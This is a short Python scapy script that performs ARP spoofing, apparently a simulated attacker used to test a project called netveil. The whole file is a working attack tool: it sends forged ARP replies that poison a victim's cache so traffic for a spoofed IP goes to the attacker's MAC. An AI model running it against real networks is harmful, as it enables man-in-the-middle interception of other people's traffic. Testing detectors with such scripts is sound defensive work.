#!/usr/bin/env python3
"""ARP spoofing with scapy (an attacker independent of netveil): tells VICTIM_IP (at VICTIM_MAC) that
SPOOFED_IP is at ATTACKER_MAC with forged ARP replies, COUNT times every INTERVAL seconds, on IFACE.

usage: arp_spoof.py IFACE VICTIM_IP VICTIM_MAC SPOOFED_IP ATTACKER_MAC COUNT INTERVAL
"""
import sys
import time

from scapy.all import ARP, Ether, sendp  # noqa: E402


def main(argv):
    if len(argv) != 8:
        print(__doc__, file=sys.stderr)
        return 2
    iface, victim_ip, victim_mac, spoofed_ip, attacker_mac, count, interval = argv[1:]
    frame = Ether(dst=victim_mac, src=attacker_mac) / ARP(
        op=2, hwsrc=attacker_mac, psrc=spoofed_ip, hwdst=victim_mac, pdst=victim_ip
    )
    for _ in range(int(count)):
        sendp(frame, iface=iface, verbose=False)
        time.sleep(float(interval))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
